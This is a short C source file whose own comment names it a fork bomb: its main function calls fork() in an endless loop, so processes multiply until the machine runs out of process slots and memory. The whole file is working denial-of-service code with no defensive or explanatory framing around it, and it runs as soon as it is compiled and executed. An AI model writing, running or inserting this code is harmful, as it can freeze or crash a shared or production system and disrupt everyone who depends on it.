/* Fork bomb in C: every process forks forever, ignoring failures. */
#include <unistd.h>
int main(void) {
  for (;;) fork();
}
